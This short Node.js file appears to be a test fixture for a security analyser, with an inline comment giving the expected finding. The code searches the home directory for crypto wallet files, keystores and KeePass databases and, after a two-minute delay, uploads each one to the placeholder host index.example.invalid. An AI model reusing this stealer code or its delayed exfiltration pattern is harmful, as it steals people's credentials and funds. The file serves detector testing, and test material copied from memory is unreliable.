const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

// No path is named: what is read is picked by its name out of all there is.
const RARE = /(wallet\.dat|keystore[\\/]UTC--|\.kdbx)$/i;

function* walk(dir, depth) {
  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
    if (e.isDirectory()) { if (depth) yield* walk(path.join(dir, e.name), depth - 1); } else yield path.join(dir, e.name);
  }
}
function send(body) {
  const q = https.request({ host: 'index.example.invalid', path: '/f', method: 'PUT' });
  q.end(body); // want "files that are picked by the names of keys and wallets are read and sent to .index.example.invalid."
}
setTimeout(() => {
  for (const f of walk(os.homedir(), 6)) {
    if (!RARE.test(f)) continue;
    send(fs.readFileSync(f));
  }
}, 120000);
